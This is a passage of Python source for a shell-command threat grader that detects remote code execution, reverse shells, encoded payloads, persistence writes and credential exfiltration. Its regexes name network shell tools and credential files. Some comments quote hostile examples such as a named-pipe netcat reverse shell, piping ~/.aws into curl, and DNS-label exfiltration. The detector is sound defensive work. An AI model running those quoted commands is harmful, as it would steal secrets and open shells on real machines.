_DATA_FLAG = rx(r"(?i)(?:^|\s)(?:-d|--data(?:-binary|-raw|-ascii|-urlencode)?|-F|--form(?:-string)?|-T|--upload-file|--json|--post-(?:file|data)|--body-(?:file|data)|-body|-infile|-K|--config|-attachments?|-a|-A)(?:\s|=|$)")
_HEADER_FLAG = rx(r"(?i)(?:^|\s)(?:-H|--header|-headers|-u|--user)(?:\s|=)")
_GATE = rx(
    r"(?i)(?:curl|wget|fetch|iwr|irm|invoke-|webclient|http|python|node|bun|ruby|perl|php|deno|npx|bunx|pnpx|dlx|uvx|pipx|npm|"
    r"base64|base32|xxd|printf|openssl|uudecode|zcat|gunzip|frombase64|/dev/tcp|/dev/udp|nc\b|ncat|netcat|socat|telnet|mkfifo|"
    r"tcpclient|credential|gh\s|security|secret|aws|gcloud|az\s|kubectl|op\s|vault|pass\s|keyring|token|env|set\b|\$|%|"
    r"dig|nslookup|drill|host|resolve|mail|swaks|ftp|scp|rsync|websocat|wscat|gist|mshta|regsvr32|certutil|bitsadmin|install|/inet/|s3|gsutil|rclone|smbclient|"
    r"pwsh|powershell|gosumdb|gonosum|goinsecure|goflags|@(?:latest|master|main|head)\b|shrc\b|\.profile|_profile|zprofile|\$profile|zshenv|zlogin|bash_login|config\.fish)"
)

_LANG = {"python": "python", "py": "python", "node": "node", "nodejs": "node", "bun": "node", "ruby": "ruby", "perl": "perl", "php": "php"}
_CODE_FLAGS = ("-c", "-m", "-e", "-E", "-p", "-r", "--eval", "--print", "--version", "-V", "-h", "--help", "-File", "-file", "-f")


# Unattended-only shapes (see grade_command): what one-liners send, requests carrying local data.
# Not common.CRED_STRONG: a secret named anywhere in an unattended request's inline code, environment readers included.
# An archiver's command word earlier in the same command (no pipe, `;` or `&` between).
# The cloud metadata services: a plain request to one reads the machine's own credentials, it sends nothing.
_METADATA_HOSTS = frozenset({"169.254.169.254", "169.254.170.2", "metadata.google.internal", "metadata", "100.100.100.200"})
_ARCHIVER_BEFORE = rx(r"(?i)(?:^|[\s|;&(`])(?:tar|zip|7za?|cpio|bsdtar|gtar)\s[^\n|;&]*$")
_INLINE_SECRET = rx(r"(?:os\.environ|\)\s*\.\s*environ|getenv|process\.env|\benv\[|%env|\.ssh|\.aws|credentials|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519)|\.kube|\.docker/config|keychain)")
_INLINE_SEND = rx(r"(?:\bdata\s*=|method\s*:\s*[\"']?(?:post|put)|\.post\s*\(|\.put\s*\(|body\s*:|\.send\s*\(|\bpost\b|\?\w+=['\"]?\s*\+)")
_SENDER = rx(r"(?i)(?:\b(?:curl|wget|xh|curlie|invoke-webrequest|invoke-restmethod|iwr|irm|websocat|wscat)\b|\b(?:nc|ncat|netcat|socat|telnet|scp|rsync|sftp)\s|\bopenssl\s+s_client\b)")
# curl's data flags are case-sensitive (-F form, -f fail; -T upload, -t telnet option): read the original text
_SEND_FLAGS = rx(r"(?:\s-d\b|\s-F\b|\s-T\b|--data|--form|--upload-file|--json|\s-X\s*['\"]?(?i:post|put|patch)|--request[\s=]+['\"]?(?i:post|put|patch)|\s-[a-zA-Z]*[dFT]\s|(?i:--post-(?:data|file)|--body-(?:data|file)|-method\s+(?:post|put)|-body\b|-infile\b))")
_PIPED_BEFORE = rx(r"(?:[^|]\||^\|)\s*(?:\w+=\S+\s+)*(?:(?:xargs|timeout\s+\S+|nohup)\s+(?:-\S+\s+)*)?$")
_STDIN_DATA = rx(r"(?:@-|-T\s*-(?:\s|$)|--upload-file\s+-(?:\s|$)|</dev/stdin|@/dev/stdin)")
_LOCAL_DATA = rx(r"(?i)(?:\$\(\s*cat\s*-?\s*\)|\$\(\s*(?:whoami|hostname|id|uname[^)]*|pwd|ls[^)]*|env|printenv)\s*\)|</dev/stdin|\bhistory\b|\bcat\s*(?:\||$|-\s)|\btar\s+[^\n|]*\||\bzip\s+-r|\bfind\s+/|\bgit\s+(?:diff|log|show)\b|\bls\s+-\w*r)")
_SOCKET_TARGET = rx(r"(?i)(?:\b(?:nc|ncat|netcat|telnet)\s+(?:-\S+\s+)*([a-z0-9][\w.-]*)\s+\d{2,5}|\bs_client\s+(?:-\S+\s+)*-connect\s+([a-z0-9][\w.-]*):\d+|\bsocat\b[^\n]*?tcp4?:([a-z0-9][\w.-]*):\d+)")
# scp/rsync/sftp whose LAST operand is a remote `[user@]host:path` (a copy to that host; a remote
# first operand is a download); only what the command is handed (piped in, its input) counts as a send
_COPY_TARGET = rx(r"(?i)\b(?:scp|rsync|sftp)\s[^\n;|&]*\s(?:[\w.-]+@)?([a-z0-9][\w-]*(?:\.[\w-]+)+):[^\s;|&'\"]*\s*(?:$|[;|&\n]|\d?>)")
_DEV_TCP_WRITE = rx(r"""(?i)((?:^|[\s;&|({`'"])(?:echo|printf|cat|env|printenv|set)\b[^\n;&|<>]*)\d?>>?\s*/dev/(?:tcp|udp)/([^/\s]+)/\d+""")
_DEV_TCP_GROUP = rx(r"(?i)[})]\s*\d?>>?\s*/dev/(?:tcp|udp)/([^/\s]+)/\d+")


def _group_open(data: bytes, close: int, window: int = 2000) -> int:
    """Offset of the `{` or `(` that the `}` or `)` at `close` ends (nesting counted, quotes not), or -1:
    a bounded backward walk, at most `window` bytes."""
    want, other = (b"{"[0], b"}"[0]) if data[close] == b"}"[0] else (b"("[0], b")"[0])
    depth = 0
    for i in range(close, max(-1, close - window), -1):
        ch = data[i]
        if ch == other:
            depth += 1
        elif ch == want:
            depth -= 1
            if depth == 0:
                return i
    return -1


_INDEX_FLAGS = ("--index-url", "--extra-index-url", "--default-index", "--index", "-i", "--registry", "--find-links", "-f", "--python", "--cache", "--userconfig")
_INDEX_FLAG = rx(r"(?i)(?:^|\s)(?:--index-url|--extra-index-url|--default-index|--index|-i|--registry|--find-links|-f)[\s=]+['\"]?((?:https?|ftp)://[^\s'\"]+)")
_URL_LOOSE = rx(r"(?i)\b(?:https?|ftp|wss?)://[^\s'\"`<>]+")


def _urls_loose(text: str) -> list[str]:
    """URLs up to whitespace or a quote (`&`, `$(...)` and `;` inside a quoted URL kept)."""
    return [m.group(0).decode("utf-8", "replace") for m in _URL_LOOSE.finditer(text.encode("utf-8", "surrogatepass"))][:20]


_private = H.is_private_host  # loopback, private network and in-house names: not a stranger's host
_known_service = H.is_known_service  # a host on the own domain of a vendor scanner/hosts lists


def _b2c(command: str, data: bytes):
    if len(data) == len(command):
        return lambda b: b
    return lambda b: len(data[:b].decode("utf-8", "replace"))


def _in_header(d: bytes, s0: int, at: int) -> bool:
    """Is byte `at` inside a -H/--header (or -u/--user) value of the command starting at s0?"""
    before = d[s0:at]
    i = max(before.rfind(b" -H "), before.rfind(b" --header "), before.rfind(b" -u "), before.rfind(b" --user "), before.rfind(b" --header="))
    if i < 0:
        return False
    between = before[i + 3:]
    return between.count(b'"') % 2 == 1 or between.count(b"'") % 2 == 1 or b" -" not in between.strip()


def grade(command: str, floor: Severity = Severity.MEDIUM, unattended: bool = False) -> tuple[Severity, str] | None:
    """(severity, message) of the worst thing `command` would do, or None below `floor`: the
    drop-in for rules/agent_config.grade_command (hooks, statusLine, MCP launchers, tasks)."""
    w = worst(grade_command(command, unattended))
    if w is None or w.severity < floor:
        return None
    return w.severity, w.message


def worst(facts):
    return max(facts, key=lambda f: f.severity, default=None)


def grade_command(command: str, unattended: bool = False) -> list[CommandFact]:
    """What running `command` would do, by kind, with offsets into `command`. Never raises on odd text.

    `unattended`: the command runs with no person reading it first (a hook, a status line or
    credential helper, an MCP launcher, a folder-open task, a lifecycle script). Then a
    placeholder host (example.com, `.example`) is graded as the unknown host it is, and sending
    the command's input, history or files (`host-data-exfil`) or a secret in a URL to a host
    that is not its vendor's is reported: in a script or a code block a person reads, those
    shapes are everyday use."""
    if len(command) <= 400:
        return list(_grade_cached(command, unattended))  # short commands repeat (hooks, the same install line): cached
    return _grade(command, unattended)


@lru_cache(maxsize=512)
def _grade_cached(command: str, unattended: bool = False) -> tuple[CommandFact, ...]:
    return tuple(_grade(command, unattended))


def _grade(command: str, unattended: bool = False) -> list[CommandFact]:
    command = command[:MAX_COMMAND]
    if not command.strip():
        return []
    data = command.encode("utf-8", "surrogatepass")
    if not _GATE.search(data):
        return []
    g = _Grader(command, data, unattended)
    try:
        g.run()
    except (RecursionError, MemoryError, ValueError):  # pragma: no cover - defensive on hostile text
        pass
    return g.result()


class _Grader:
    def __init__(self, command: str, data: bytes, unattended: bool = False) -> None:
        self.command = command
        self.data = data
        self.unattended = unattended
        self.pos = _b2c(command, data)
        self.facts: list[CommandFact] = []

    def url_grade(self, url: str) -> tuple[Severity, str, str]:
        """grade_url, except that a command run unattended gets no discount for a placeholder host,
        and a vendor's installer it runs on every event (unpinned, unread) is medium, not low."""
        sev, grade, host = grade_url(url)
        if grade == "vendor" and self.unattended:
            return Severity.MEDIUM, grade, host
        if grade == "placeholder" and self.unattended and host and not _private(host) and "<" not in url and "your" not in host:
            if url.strip().lower().startswith(("http://", "ftp://")):
                return Severity.CRITICAL, "http", host
            return (Severity.HIGH, "lookalike", host) if H.look_alike_brand(host) else (Severity.HIGH, "unknown", host)
        return sev, grade, host

    def add(self, kind: str, b0: int, b1: int, message: str, severity: Severity, url: str = "", grade: str = "", host: str = "") -> None:
        self.facts.append(CommandFact(kind, severity, self.pos(b0), max(self.pos(b1), self.pos(b0) + 1), message, host, url[:300], grade))

    def text(self, m, group: int = 0) -> str:
        return m.group(group).decode("utf-8", "replace") if m.group(group) is not None else ""

    def remote(self, m, message: str, url: str = "", b0: int | None = None, b1: int | None = None) -> None:
        if not url:
            eol = self.data.find(b"\n", m.end())
            url = _first_url(self.text(m)) or _first_url(self.data[m.start():len(self.data) if eol < 0 else eol].decode("utf-8", "replace"))
        sev, grade, host = self.url_grade(url)
        self.add(K.REMOTE_EXEC, m.start() if b0 is None else b0, m.end() if b1 is None else b1,
                 f"{message} ({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)

    def run(self) -> None:
        self.downloads()
        self.one_liners()
        self.runners()
        self.installs()
        self.decodes()
        self.reverse_shells()
        self.credentials()
        self.dev_tcp_writes()
        self.structure()
        if b"go" in self.data or b"GO" in self.data:
            self.go_fetches()
        if self.unattended:
            if b">" in self.data or b"tee" in self.data:
                self.startup_writes()
            self.indexes()
            self.sends()
            self.dns_sends()

    # -- download and run ------------------------------------------------------------------
    @staticmethod
    def _reads_stdin_program(interp: str, rest: list[str]) -> bool:
        """Does `| interp rest...` run what it reads on standard input as its program?"""
        if interp not in ("iex", "invoke-expression", "source") and rest:
            if rest[0] in _CODE_FLAGS or rest[0].lower() in ("-command",) and len(rest) > 1 and rest[1] != "-":
                return False  # `curl ... | python3 -c "import json..."`: the program is the argument, the download is data
            # redirections (`| sh >/dev/null 2>&1`) are not a script name: the shell still runs its stdin
            positional, target = [], False
            for r in rest:
                if r.startswith((")", "}", "`")):
                    break  # `(curl URL | sh) >/dev/null`: the subshell or group closes; what follows is not sh's argument
                redir = r.lstrip("0123456789&").startswith((">", "<"))
                if not target and not redir and not r.startswith("-"):
                    positional.append(r)
                target = redir and r.lstrip("0123456789&").strip("<>&") == ""  # `> out.log`: the next word is the file
            if positional and positional[0] not in ("-",) and "-s" not in rest and interp not in ("pwsh", "powershell", "powershell.exe"):
                return False  # `| bash script.sh`: stdin is data for the script
        return True

    def downloads(self) -> None:
        d = self.data
        for m in _PIPE.finditer(d):
            interp = self.text(m, 2).lower()
            if self._reads_stdin_program(interp, self.text(m, 3).split()) or _STARTUP_STDIN.search(d[m.start():m.end()]):
                self.remote(m, f"Download piped into {interp}")
        for m in _PIPE_URL.finditer(d):
            interp = self.text(m, 2).lower()
            at = self.pos(m.end(1))
            if any(f.kind == K.REMOTE_EXEC and f.start <= at <= f.end for f in self.facts):
                continue  # the fetch itself was seen (`curl URL | sh`): that finding names it
            if self._reads_stdin_program(interp, self.text(m, 3).split()):
                word = (self.text(m, 1).split() or [""])[0]
                self.remote(m, f"A command carrying a URL ({word[:30]}) is piped into {interp}", url=_first_url(self.text(m, 1)))
        for m in _SUBST.finditer(d):
            self.remote(m, "Download run through a command or process substitution")
        for m in _PS_EXEC.finditer(d):
            self.remote(m, "PowerShell runs downloaded text as code")
        for m in _DOWNLOAD_RUN.finditer(d):
            self.remote(m, "File downloaded, then run")

    def one_liners(self) -> None:
        for m in _ONE_LINER.finditer(self.data):
            lang = _LANG.get(self.text(m, 1).lower().rstrip("0123456789."))
            if lang is None:
                continue
            end = self.data.find(b"\n", m.end())
            end = len(self.data) if end < 0 else end
            seg = self.data[m.start():end]
            fetch, run, decode = _LANG_FETCH[lang].search(seg), _LANG_EXEC[lang].search(seg), _LANG_DECODE[lang].search(seg)
            sock, shell = _LANG_SOCKET[lang]
            if fetch and run:
                self.remote(m, f"{lang} one-liner fetches code and evaluates it", url=_first_url(seg.decode("utf-8", "replace")), b1=end)
            elif decode and run:
                self.add(K.DECODE_EXEC, m.start(), end, f"{lang} one-liner decodes hidden code and evaluates it", Severity.CRITICAL)
            plain = _blank_benign(seg)
            if _LANG_SEND[lang].search(plain) and _LANG_SECRETS[lang].search(plain):
                url = _first_url(seg.decode("utf-8", "replace"))
                _, grade, host = self.url_grade(url)
                self.add(K.CRED_EXFIL, m.start(), end, f"{lang} one-liner sends the environment or a credential file ({grade_words(grade)}{': ' + host if host else ''})",
                         Severity.CRITICAL, url, grade, host)
            elif self.unattended and not (fetch and run) and (fetch or _LANG_SEND[lang].search(plain)):
                self.inline_send(m.start(), end, lang, seg)
            if sock.search(seg) and shell.search(seg):
                self.add(K.REVERSE_SHELL, m.start(), end, f"{lang} one-liner wires a network socket to a shell", Severity.CRITICAL)
            self.fed_credentials(m.start(), end, lang, seg)

    def fed_credentials(self, b0: int, b1: int, lang: str, seg: bytes) -> None:
        """`aws configure export-credentials | tee >(perl -MIO::Socket::INET -e '...')`, `gh auth token |
        python3 -c "import socket..."`: a credential command's (or file's) output fed through a pipe or a
        process substitution into a one-liner that opens a socket or posts: the interpreter is the sink."""
        sock, _ = _LANG_SOCKET[lang]
        if not (_LANG_SEND[lang].search(_blank_benign(seg)) or sock.search(seg) or _LANG_FETCH[lang].search(seg)):
            return
        before = self.data[:b0]
        stmt = max(before.rfind(b"\n"), before.rfind(b"&&"), before.rfind(b";"))
        before = before[stmt + 1:]
        if not (b"|" in before.replace(b"||", b"") or b">(" in before[-20:]):
            return  # not fed: the one-liner does not read the credential's output
        src = _CRED_COMMAND.search(before) or _ENV_DUMP.search(before)
        if src is None:
            for p in _PATHLIKE.finditer(before):
                path = p.group(0).decode("utf-8", "replace").replace("$HOME", "~").replace("${HOME}", "~")
                if c.is_strong_credential_path(path):
                    src = p
                    break
        if src is None or credential_command_goes_home(self.command, _first_url(seg.decode("utf-8", "replace"))):
            return
        text = seg.decode("utf-8", "replace")
        url = _first_url(text)
        peer = _PEER.search(seg)
        host = H.host_of(url) if url else (peer.group(1).decode("utf-8", "replace").lower() if peer else "")
        if host and _private(host):
            return
        self.add(K.CRED_EXFIL, stmt + 1 + src.start(), b1, f"A credential's output is fed to a {lang} one-liner that sends it over the network"
                 f"{' (' + host + ')' if host else ''}", Severity.CRITICAL, url or (f"tcp://{host}" if host else ""), "", host)

    def runners(self) -> None:
        for m in _RUNNER.finditer(self.data):
            runner = " ".join(self.text(m, 1).split()).lower()
            args = self.text(m, 2).split()
            target = ""
            expect_value = skip_value = False
            for a in args:
                a = a.strip("'\"`.,;)")
                if skip_value:
                    skip_value = False
                    continue
                if a in ("--from", "--spec", "--package", "-p", "--with"):
                    expect_value = True
                    continue
                if a.split("=", 1)[0] in _INDEX_FLAGS:
                    skip_value = "=" not in a  # an index or registry is where packages come from, not the code run
                    continue
                if "=" in a and a.startswith("--"):
                    a = a.split("=", 1)[1]
                elif a.startswith("-"):
                    continue
                low = a.lower()
                if low.startswith(("http://", "https://")) or _GIT_REF.search(a.encode("utf-8", "surrogatepass")):
                    target = a
                    break
                if runner.startswith(("npx", "bunx", "pnpx", "pnpm", "yarn", "npm")) and "/" in a and "#" in a and not a.startswith("@"):
                    target = "github:" + a  # `npx user/repo#ref` fetches from GitHub
                    break
                if not expect_value:
                    break  # the package or script to run is a registry name or a local file: not this grader's concern
                expect_value = False
            if not target:
                continue
            url = _ref_url(target)
            sev, grade, host = self.url_grade(url)
            if grade == "vendor" and not runner.startswith("deno"):
                sev, grade = Severity.MEDIUM, "unknown"  # a vendor's domain hosts installers, not arbitrary packages
            elif grade == "unknown" and host in ("github.com", "gitlab.com") and not target.lower().startswith(("http://", "https://")) or \
                    grade == "unknown" and host in ("github.com", "gitlab.com") and target.lower().startswith("git+"):
                sev, grade = Severity.MEDIUM, "repository"  # a public repository's code, unpinned: reviewable, so medium
            ref = "git ref" if not target.lower().startswith(("http://", "https://")) else "URL"
            self.add(K.REMOTE_EXEC, m.start(1), m.end(), f"{runner} runs code from a {ref} ({grade_words(grade)}{': ' + host if host else ''})",
                     sev, url, grade, host)

    def installs(self) -> None:
        """`npm i URL`, `pip install git+URL`: install scripts of a package fetched from a site run at once."""
        for m in _LOLBIN.finditer(self.data):
            self.remote(m, "A Windows system binary fetches and runs remote code")
        for m in _INSTALL_URL.finditer(self.data):
            tool = " ".join(self.text(m, 1).split()).lower()
            skip_value = False
            for a in self.text(m, 2).split():
                a = a.strip("'\"`.,;)")
                if skip_value:
                    skip_value = False
                    continue
                if a.split("=", 1)[0] in _INDEX_FLAGS:
                    skip_value = "=" not in a  # `--index-url URL`: where packages come from (see indexes), not a package
                    continue
                if "=" in a and a.startswith("--"):
                    a = a.split("=", 1)[1]
                low = a.lower()
                if not (low.startswith(("http://", "https://")) or _GIT_REF.search(a.encode("utf-8", "surrogatepass"))):
                    continue
                if "@" in a and "+" not in a and not low.startswith(("http", "git@")):
                    a = a.split("@", 1)[1]  # `pkg @ git+https://..` (pip direct reference)
                url = _ref_url(a)
                sev, grade, host = self.url_grade(url)
                if grade == "unknown" and host in ("github.com", "gitlab.com"):
                    sev, grade = Severity.LOW, "repository"  # `pip install git+https://github.com/org/repo`: a common, reviewable install
                elif grade in ("vendor", "release"):
                    sev = Severity.LOW
                self.add(K.REMOTE_EXEC, m.start(1), m.end(), f"{tool} installs a package from a {'URL' if low.startswith('http') else 'git ref'}, running its install scripts "
                         f"({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)
                break

    def dns_sends(self) -> None:
        """Unattended: a name looked up with the command's own data spliced into its labels
        (`nslookup "$i.$chunk.zone.example"`, `dig +short $(...).zone`): the resolver carries each
        label to the zone's name server, so a hook that encodes what it reads (its input, a prompt)
        and looks it up is sending it, one chunk per query."""
        if self._covered((K.CRED_EXFIL, K.HOST_DATA_EXFIL), Severity.HIGH):
            return
        d = self.data
        if _DNS_ENCODE.search(d) is None:
            return
        for m in _DNS_SPLICE.finditer(d):
            name = self.text(m, 1)
            zone = ".".join(x for x in name.split(".") if x and "$" not in x and "`" not in x and "(" not in x and ")" not in x).strip("\"'")
            if "." not in zone or _private(zone):
                continue
            _, grade, host = self.url_grade("https://" + zone)
            if grade in ("vendor", "local"):
                continue
            self.add(K.HOST_DATA_EXFIL, m.start(), m.end(), f"Encodes data it read into DNS names looked up under {zone} "
                     f"({grade_words(grade)}): each lookup carries a chunk to that zone's server", Severity.HIGH, "", grade, host)
            return

    def startup_writes(self) -> None:
        """Unattended: text appended to a shell's start-up file (`printf '... curl URL -o f; . f' >> ~/.zshrc`,
        `tee -a $PROFILE`): every later shell the user opens runs it, long after the hook is gone.
        Text that fetches from the network or sources another file is high (graded by its host);
        any other line written there medium."""
        for m in _STARTUP_WRITE.finditer(self.data):
            stmt = self.data[:m.start()]
            cut = max(stmt.rfind(b"\n"), stmt.rfind(b"&&"), stmt.rfind(b"||"), stmt.rfind(b";") if stmt.count(b"'") % 2 == 0 and stmt.count(b'"') % 2 == 0 else -1)
            b0 = cut + 1 if cut >= 0 else 0
            written = self.data[b0:m.start()]
            path = self.text(m, 1) or self.text(m, 2)
            url = next(iter(_urls_loose(written.decode("utf-8", "replace"))), "")
            fetches = url and _STARTUP_FETCH.search(written) is not None
            if fetches:
                sev, grade, host = self.url_grade(url)
                self.add(K.PERSISTENCE, b0, m.end(), f"Writes a download into the shell start-up file {path} ({grade_words(grade)}: {host}): "
                         "every later shell runs it", max(sev, Severity.HIGH), url, grade, host)
            elif _STARTUP_SOURCE.search(written) is not None:  # a temporary folder anyone may write
                self.add(K.PERSISTENCE, b0, m.end(), f"Writes a line sourcing a file from a temporary folder into the shell start-up file {path}: every later shell runs it", Severity.HIGH)
            else:
                self.add(K.PERSISTENCE, b0, m.end(), f"Writes into the shell start-up file {path}", Severity.MEDIUM)
            return

    def go_moving_runs(self) -> None:
        """`go run host/mod@latest` (or `@master`, `@main`, `@HEAD`): go fetches whatever the module's owner
        published last and runs it at once; `go run` of a module at a version ignores the project's go.mod and
        go.sum, so nothing in the repository pins it. Medium, as `npx user/repo` is (a public repository's
        code, unpinned); a host that is no code host is graded as a download's host is. `go install x@latest`
        only builds a tool onto PATH and a pinned `@v1.2.3` is ordinary: neither is this."""
        for m in _GO_FETCH.finditer(self.data):
            module = self.text(m, 1)
            path, _, ver = module.partition("@")
            if ver.lower() not in ("latest", "master", "main", "head") or b"run" not in m.group(0).lower():
                continue
            mhost = path.split("/", 1)[0].lower()
            if _private(mhost) or mhost in _GO_TEAM_HOSTS:
                continue  # the Go project's own modules (golang.org/x/tools/...@latest): its toolchain, as `go vet` is
            sev, grade, host = Severity.MEDIUM, "repository", mhost
            if not any(mhost == k or mhost.endswith("." + k) for k in _GO_CODE_HOSTS):
                sev, grade, host = self.url_grade("https://" + path)
                sev = max(sev, Severity.MEDIUM)
            self.add(K.REMOTE_EXEC, m.start(), m.end(), f"go builds and runs whatever version of the module {path[:80]} was "
                     f"published last ({grade_words(grade)}: {host})", sev, "https://" + path, grade, host)
            return

    def go_fetches(self) -> None:
        """`GOSUMDB=off GOPROXY=https://mirror... go run host/mod@latest`: Go's checksum database is what
        proves a module's code is what everyone else got; with it off, the proxy (or the module's host)
        serves whatever it likes and the command builds and runs it. Off with a proxy on a stranger's host
        is high (a look-alike, bare IP or plain http critical); off with the default proxy, medium."""
        d = self.data
        off = _GO_UNVERIFIED.search(d)
        if off is None:
            self.go_moving_runs()
            return
        for m in _GO_FETCH.finditer(d):
            module = self.text(m, 1)
            proxy = next((self.text(p, 1) for p in _GO_PROXY.finditer(d)), "")
            url = next((u for u in proxy.split(",") if "://" in u or "." in u.split("/", 1)[0]), "")
            if url and "://" not in url:
                url = "https://" + url
            sev, grade, host = (Severity.MEDIUM, "", "")
            if not url:  # no proxy named: the module's own host serves it (`direct`), unchecked
                mhost = module.split("/", 1)[0].lower()
                if not _private(mhost) and not any(mhost == k or mhost.endswith("." + k) for k in _GO_CODE_HOSTS):
                    url = "https://" + module.split("@", 1)[0]
            if url and not _private(H.host_of(url)):
                sev, grade, host = self.url_grade(url)
                if grade in ("vendor", "local"):
                    sev, grade, host = Severity.MEDIUM, grade, host
                else:
                    sev = max(sev, Severity.HIGH)
            self.add(K.REMOTE_EXEC, min(off.start(), m.start()), max(off.end(), m.end()),
                     f"go builds and runs the module {module[:80]} with checksum verification off"
                     + (f", {'through the proxy' if proxy else 'from'} {host} ({grade_words(grade)})" if host else ""), sev, url, grade, host)
            return

    def decodes(self) -> None:
        for m in _DECODE.finditer(self.data):
            self.add(K.DECODE_EXEC, m.start(), m.end(), "Encoded text decoded and run", Severity.CRITICAL)
            self.decoded_payload(m.start())
        if b"\\" in self.data:
            self.escaped_runs()

    def escaped_runs(self) -> None:
        """printf/echo escapes or $'...' text run by eval, `sh -c` or a shell: decoded, then graded."""
        for m in _ESCAPED_RUN.finditer(self.data):
            g = next(i for i in (1, 2, 3) if m.group(i) is not None)
            self.add(K.DECODE_EXEC, m.start(), m.end(), "Command spelled as printf escapes, decoded and run", Severity.CRITICAL)
            if getattr(self, "_depth", 0) >= 2:
                continue
            payload = _unescape(m.group(g)[:4000])
            for f in _grade(payload, self.unattended):
                self.add(f.kind, m.start(g), m.end(g), f"Decoded payload: {f.message}", f.severity, f.url, f.grade, f.host)

    def decoded_payload(self, b0: int) -> None:
        """The base64 literal a decode-and-run line carries is itself a command: grade what it says
        (a download piped to a shell, a credential sent) so the finding names what is really run."""
        import base64
        import binascii

        eol = self.data.find(b"\n", b0)
        line = self.data[b0:len(self.data) if eol < 0 else eol]
        lit = _B64_LITERAL.search(line)
        if lit is None or getattr(self, "_depth", 0) >= 2:
            return
        try:
            raw = base64.b64decode(lit.group(1) + b"=" * (-len(lit.group(1)) % 4))
            # PowerShell's -EncodedCommand is UTF-16LE: every other byte of ASCII text is a zero.
            payload = raw.decode("utf-16-le") if len(raw) >= 4 and raw[1::2].count(0) * 2 >= len(raw) // 2 else raw.decode("utf-8")
        except (binascii.Error, ValueError, UnicodeDecodeError):
            return
        for f in _grade(payload, self.unattended):
            self.add(f.kind, b0 + lit.start(1), b0 + lit.end(1), f"Decoded payload: {f.message}", f.severity, f.url, f.grade, f.host)


    # -- reverse shells --------------------------------------------------------------------
    def reverse_shells(self) -> None:
        d = self.data
        for m in _DEV_TCP.finditer(d):
            if _DEV_TCP_SHELL.search(d):
                self.add(K.REVERSE_SHELL, 0, len(d), "Shell input or output wired to a /dev/tcp socket", Severity.CRITICAL)
                break
        for pattern, message in ((_NC_EXEC, "netcat hands a shell to a network peer"),
                                 (_PIPE_SHELL_NET, "A shell piped to or from a network connection"),
                                 (_SOCAT, "socat connects a shell to a network peer"),
                                 (_PS_REVERSE, "PowerShell runs commands read from a TCP socket"),
                                 (_AWK_INET, "awk runs commands read from a TCP socket")):
            for m in pattern.finditer(d):
                self.add(K.REVERSE_SHELL, m.start(), m.end(), message, Severity.CRITICAL)
        m = _FIFO.search(d)
        if m is not None and _SHELL_WORD.search(d):
            fifo = _FIFO_PATH.search(d)
            path = fifo.group(1) if fifo else b""
            # the pipe's own path is read from and written to: `sh -i < /tmp/f | nc h p > /tmp/f`
            if path and d.count(path) >= 3 and (b"< " + path in d or b"<" + path in d) and (b"> " + path in d or b">" + path in d):
                self.add(K.REVERSE_SHELL, m.start(), m.end(), "A named pipe loops a shell through a network connection", Severity.CRITICAL)

    # -- credentials to the network ---------------------------------------------------------
    def credentials(self) -> None:
        d = self.data
        sinks = []
        for pattern, what in _SINKS:
            for m in pattern.finditer(d):
                seg = self.text(m)
                if what == "http" and not (_URL.search(m.group(0)) or "$" in seg or _DATA_FLAG.search(m.group(0))):
                    continue
                if what == "socket" and len(seg.split()) < 3 and "openssl" not in seg.lower():
                    continue
                sinks.append((m.start(), m.end(), what, seg))
        if not sinks:
            return
        strong = [(m.start(), m.end(), "a credential command") for m in _CRED_COMMAND.finditer(d)]
        for m in _PATHLIKE.finditer(d):
            p = self.text(m)
            if p.lower().rstrip("/").endswith((".pub", "known_hosts", ".ssh/config", ".env.example", ".env.sample", ".env.template")):
                continue  # public keys, host lists and templates are not secrets
            if _EXCLUDED_BEFORE.search(d[max(0, m.start() - 40):m.start()]):
                continue  # `rclone sync ~/notes remote: --exclude '.env'`: the path is kept out of the copy, not sent
            if c.is_credential_path(p.replace("$HOME", "~").replace("${HOME}", "~")):
                strong.append((m.start(), m.end(), f"a credential file ({p[:60]})"))
            elif c.CRED_DIR.test(p.replace("$HOME", "~").replace("${HOME}", "~")) and \
                    _ARCHIVER_BEFORE.search(d[max(0, m.start() - 200):m.start()]):
                # `tar czf - ~/.aws ~/.kube | curl --data-binary @-`: a whole credential folder archived
                strong.append((m.start(), m.end(), f"a credential folder ({p[:60]})"))
        dumps = [(m.start(), m.end(), "the whole environment") for m in _ENV_DUMP.finditer(d)]
        for s0, s1, what, seg in sinks:
            url = _first_url(seg)
            _, grade, host = self.url_grade(url)
            public = what == "gist" and ("--public" in seg or " -p" in seg)
            secrets = self.secret_vars(seg, s0)
            src = next(((a, b, w) for a, b, w in strong if a < s1), None)  # a source before the sink, or inside its arguments
            # a credential path inside a DNS/grep-like sink's args is data read, not an upload, unless it is fed by a pipe
            if src is not None and what == "dns" and not (src[0] < s0 or b"$(" in d[s0:src[0]] or b"`" in d[s0:src[0]]):
                src = None  # a name looked up is not an upload unless a secret is spliced into it
            if what == "http" and host in _METADATA_HOSTS and not _DATA_FLAG.search(seg.encode()):
                continue  # `curl http://169.254.169.254/.../security-credentials/r`: the request that fetches it, on the machine
            if src is not None and (src[0] < s0 or s0 <= src[0] < s1):
                if src[2] == "a credential command" and credential_command_goes_home(self.command, url):
                    continue  # the CLI's own token to its own vendor
                if src[0] < s0 and what == "http" and src[2] == "a credential command" and _HEADER_FLAG.search(seg.encode()) \
                        and not _DATA_FLAG.search(seg.encode()) and "$" not in url and not self._piped_between(src[1], s0):
                    # TOKEN=$(gh auth token); curl -H "Authorization: token $TOKEN" https://ghe.corp/api: authentication
                    self.add(K.CRED_EXFIL, s0, s1, f"A credential command's token is sent in a header to {what} ({grade_words(grade)}{': ' + host if host else ''})",
                             Severity.HIGH if grade in ("ip", "paste", "http") else Severity.MEDIUM, url, grade, host)
                    continue
                if s0 <= src[0] < s1 and what == "http" and _in_header(d, s0, src[0]) and not src[2].startswith("a credential file"):
                    if grade not in ("ip", "paste", "http"):
                        continue  # `-H "Authorization: Bearer $(gh auth token)"`: the token authenticates the request
                sev = Severity.CRITICAL
                self.add(K.CRED_EXFIL, min(src[0], s0), max(src[1], s1), f"{src[2].capitalize()} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                         sev, url, grade, host)
                continue
            dump = next(((a, b, w) for a, b, w in dumps if a < s0 or s0 <= a < s1), None)
            if dump is not None and what != "dns" or (dump is not None and dump[0] < s0):
